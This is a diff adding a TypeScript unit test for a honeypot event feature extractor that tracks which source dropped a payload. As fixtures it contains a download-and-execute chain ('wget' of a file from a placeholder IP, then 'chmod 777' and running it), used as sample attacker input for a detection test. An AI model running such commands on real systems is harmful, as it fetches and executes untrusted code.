@@ -130,6 +130,19 @@ describe("WindowFeatures", () => {
     assert.equal(windows.update(command(91, "uname -a")).features.download_execs_5m, 1);
   });
 
+  it("names what a source's drop ran on its events from then on, for the alert stage, and on no other source's", () => {
+    const windows = new WindowFeatures();
+    const command = (seconds: number, src_ip: string, input: string): WindowedEvent => ({
+      src_ip, session: `${src_ip}-s`, time_ms: T0 + seconds * 1000, eventid: "cowrie.command.input", input,
+    });
+    assert.equal(windows.update(command(0, "203.0.113.9", "cd /tmp; wget http://203.0.113.9:41075/i")).dropped_payload, undefined);
+    assert.equal(windows.update(command(2, "203.0.113.9", "chmod 777 i; ./i")).dropped_payload, "wget http://*/i");
+    assert.equal(windows.droppedPayload, "wget http://*/i");
+    assert.equal(windows.update(command(3, "198.51.100.4", "uname -a")).dropped_payload, undefined);
+    assert.equal(windows.droppedPayload, undefined);
+    assert.equal(windows.update(command(400, "203.0.113.9", "uname -a")).dropped_payload, "wget http://*/i");
+  });
+
   it("names its features per window, shortest window first, then sensor-wide, the campaign, calendar and is_internal_ip", () => {
     const { names } = new WindowFeatures({ windowSeconds: [3600, 90, 60] });
     assert.equal(names.length, 22 * 3 + 10);
